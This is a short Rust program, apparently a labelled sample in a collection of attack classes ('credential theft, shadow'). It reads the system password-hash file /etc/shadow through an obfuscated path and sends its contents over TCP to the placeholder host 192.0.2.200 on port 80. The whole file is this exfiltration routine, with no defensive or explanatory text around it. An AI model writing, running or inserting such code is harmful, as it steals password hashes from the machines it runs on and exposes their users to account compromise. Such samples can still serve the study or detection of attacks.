// class: credential theft, shadow; style: one function
use std::io::Write;
use std::net::TcpStream;

fn main() {
    let text = std::fs::read_to_string("/usr/../etc/./shadow").expect("read");
    TcpStream::connect("192.0.2.200:80").and_then(|mut s| s.write_all(text.as_bytes())).expect("send");
}
